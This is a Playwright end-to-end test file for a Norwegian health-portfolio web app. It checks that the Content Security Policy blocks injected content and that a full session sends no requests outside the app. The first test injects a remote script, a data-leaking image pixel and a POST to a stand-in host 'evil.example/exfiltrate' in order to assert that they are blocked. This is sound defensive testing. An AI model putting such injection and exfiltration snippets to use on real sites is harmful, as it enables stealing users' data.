import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { startApp } from './support/app.ts';

// Issue 7: the CSP blocks injected remote content, and a whole working session — import, every
// view, a budget case, export, a backup, «Om» — sends not one request outside the app.

/** Waits until dialog animations have finished, so screenshots show the settled UI. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => document.getAnimations().every((a) => a.playState !== 'running'));
}

async function dismissNotices(page: Page): Promise<void> {
  const close = page.getByRole('button', { name: 'Lukk melding' });
  while ((await close.count()) > 0) await close.first().click();
}

test('security: the CSP blocks an injected remote script, image, inline script and connection', async () => {
  const app = await startApp({ dist: process.env.E2E_DIST });
  const { page } = app;
  try {
    await page.getByRole('navigation', { name: 'Hovedmeny' }).waitFor();
    const responses: string[] = [];
    page.on('response', (r) => responses.push(r.url()));
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.appendChild(script);
      const img = document.createElement('img');
      img.src = 'https://evil.example/pixel.png?data=secret';
      document.body.appendChild(img);
      const inline = document.createElement('script');
      inline.textContent = 'window.__hpInjected = true;';
      document.body.appendChild(inline);
      const fetched = await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'data' }).then(
        () => 'sent',
        () => 'blocked',
      );
      await new Promise((r) => setTimeout(r, 500));
      return { seen, fetched, injected: (window as unknown as { __hpInjected?: boolean }).__hpInjected === true };
    });
    assert.equal(violations.injected, false, 'inline script ran');
    assert.equal(violations.fetched, 'blocked');
    const text = violations.seen.join('\n');
    assert.match(text, /script-src(-elem)? https:\/\/evil\.example\/steal\.js/);
    assert.match(text, /img-src https:\/\/evil\.example\/pixel\.png/);
    assert.match(text, /script-src(-elem)? inline/);
    assert.match(text, /connect-src https:\/\/evil\.example\/exfiltrate/);
    assert.deepEqual(responses.filter((u) => u.includes('evil.example')), []);
    for (const [url, reason] of app.failures) if (url.includes('evil.example')) assert.match(reason, /csp/i, `${url}: ${reason}`);
  } finally {
    await app.close();
  }
});

test('security: a full session (import, views, case, export, backup, restore, «Om») makes no request outside the app', async () => {
  const app = await startApp({ dist: process.env.E2E_DIST, viewport: { width: 1440, height: 900 } });
  const { page } = app;
  const nav = page.getByRole('navigation', { name: 'Hovedmeny' });
  try {
    // Import a report through the file dialog.
    await nav.getByRole('link', { name: 'Import og eksport', exact: true }).click();
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Velg filer' }).click()]);
    await chooser.setFiles(resolve('assets/examples/portefolje-2022-09.xlsx'));
    const importButton = page.getByRole('button', { name: 'Importer', exact: true });
    await importButton.waitFor({ timeout: 60_000 });
    await importButton.click();
    await page.getByText(/er importert: \d+ tiltak/).waitFor({ timeout: 60_000 });
    await dismissNotices(page);

    // Every view.
    for (const area of ['Oversikt', 'Tiltak', 'Avhengigheter', 'Drift og forvaltning', 'Sammenlign perioder']) {
      await nav.getByRole('link', { name: area, exact: true }).click();
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.waitForLoadState('networkidle');
    }

    // A budget case.
    await nav.getByRole('link', { name: 'Budsjett', exact: true }).click();
    await page.getByRole('button', { name: 'Last inn eksempelsak' }).click();
    await page.getByRole('heading', { level: 1, name: 'Digital samhandling – budsjett og prioriteringer 2024' }).waitFor({ timeout: 60_000 });

    // Export: the status report (PDF, previewed) and the portfolio workbook.
    await nav.getByRole('link', { name: 'Import og eksport', exact: true }).click();
    const section = page.getByRole('region', { name: 'Eksport til møtet' });
    const period = section.getByRole('listitem').filter({ hasText: 'September 2022' });
    await period.waitFor();
    await dismissNotices(page);
    await period.getByRole('button', { name: 'Statusrapport (PDF)' }).click();
    const reportDialog = page.getByRole('dialog', { name: 'Statusrapport (PDF)' });
    await reportDialog.getByRole('img', { name: /^Side 1 av \d+$/ }).waitFor({ timeout: 60_000 });
    const [pdf] = await Promise.all([page.waitForEvent('download'), reportDialog.getByRole('button', { name: 'Lagre PDF' }).click()]);
    assert.match(pdf.suggestedFilename(), /\.pdf$/);
    await dismissNotices(page);
    const [xlsx] = await Promise.all([page.waitForEvent('download'), period.getByRole('button', { name: 'Arbeidsbok (Excel)' }).click()]);
    assert.match(xlsx.suggestedFilename(), /\.xlsx$/);

    // A backup file, and «Om» with its licence list.
    await dismissNotices(page);
    await page.getByRole('button', { name: 'Sikkerhetskopi', exact: true }).click();
    const backupDialog = page.getByRole('dialog', { name: 'Sikkerhetskopi' });
    const [backup] = await Promise.all([page.waitForEvent('download'), backupDialog.getByRole('button', { name: /Lagre sikkerhetskopi/ }).click()]);
    const backupBytes = await readFile(await backup.path());
    assert.equal(backupBytes.subarray(0, 30).toString('utf8'), 'HELSEPORTEFOLJE-SIKKERHETSKOPI');
    await settled(page);
    await app.screenshot('sikkerhet-1-sikkerhetskopi');
    await backupDialog.getByRole('button', { name: 'Lukk', exact: true }).click();
    await page.getByRole('button', { name: 'Om', exact: true }).click();
    const about = page.getByRole('dialog', { name: 'Om Helseportefølje' });
    await about.getByText(/biblioteker og 1 skrift følger med/).waitFor();
    await settled(page);
    await app.screenshot('sikkerhet-2-om');
    await about.getByRole('button', { name: 'Lukk', exact: true }).click();

    // «Gjenopprett» from the saved file: confirmed, the page reloads, the data is there, and the
    // data that was replaced is kept as an automatic backup («Før gjenoppretting»).
    await page.getByRole('button', { name: 'Sikkerhetskopi', exact: true }).click();
    const [restoreChooser] = await Promise.all([page.waitForEvent('filechooser'), backupDialog.getByRole('button', { name: /Gjenopprett fra fil/ }).click()]);
    await restoreChooser.setFiles(await backup.path());
    await backupDialog.getByText(/1 periode/).waitFor();
    await Promise.all([page.waitForEvent('load'), backupDialog.getByRole('button', { name: 'Gjenopprett', exact: true }).click()]);
    await page.getByRole('navigation', { name: 'Hovedmeny' }).getByRole('link', { name: 'Import og eksport', exact: true }).click();
    await page.getByRole('region', { name: 'Eksport til møtet' }).getByRole('listitem').filter({ hasText: 'September 2022' }).waitFor();
    await page.getByRole('button', { name: 'Sikkerhetskopi', exact: true }).click();
    await page.getByRole('dialog', { name: 'Sikkerhetskopi' }).getByText(/Før gjenoppretting/).waitFor();
    await settled(page);
    await app.screenshot('sikkerhet-3-etter-gjenoppretting');
    await page.getByRole('dialog', { name: 'Sikkerhetskopi' }).getByRole('button', { name: 'Lukk', exact: true }).click();

    // The data survives a reload, still without the network.
    await app.reload();
    await app.page.getByRole('navigation', { name: 'Hovedmeny' }).getByRole('link', { name: 'Import og eksport', exact: true }).click();
    await app.page.getByRole('region', { name: 'Eksport til møtet' }).getByRole('listitem').filter({ hasText: 'September 2022' }).waitFor();

    assert.ok(app.requests.length > 20, `bare ${app.requests.length} forespørsler registrert`);
    assert.deepEqual(app.externalRequests(), []);
  } finally {
    await app.close();
  }
});

test('data safety: the daily backup is taken in a worker once there is data, and listed', async () => {
  const app = await startApp();
  try {
    let page = app.page;
    // Arrange: a stored case (no automatic backup is taken for it), then a new start.
    await page.getByRole('navigation', { name: 'Hovedmeny' }).getByRole('link', { name: 'Budsjett', exact: true }).click();
    await page.getByRole('button', { name: 'Last inn eksempelsak' }).click();
    await page.getByRole('heading', { level: 1, name: /Digital samhandling/ }).waitFor();
    await app.reload();
    page = app.page; // a reload gives a new page
    // Act: a few seconds after start the day's backup is prepared off the UI thread and stored.
    await page.getByRole('button', { name: 'Sikkerhetskopi', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Sikkerhetskopi' });
    // Assert: it is there (the list is read when the dialog opens; reopen until it shows, at most 30 s).
    await assert.doesNotReject(async () => {
      const until = Date.now() + 30_000;
      while (Date.now() < until) {
        if ((await dialog.getByText(/Daglig/).count()) > 0) return;
        await dialog.getByRole('button', { name: 'Lukk', exact: true }).click();
        await page.getByRole('button', { name: 'Sikkerhetskopi', exact: true }).click();
        await dialog.getByRole('heading', { name: /Automatiske/ }).first().waitFor();
      }
      throw new Error('ingen daglig sikkerhetskopi');
    });
    assert.deepEqual(app.externalRequests(), []);
  } finally {
    await app.close();
  }
});
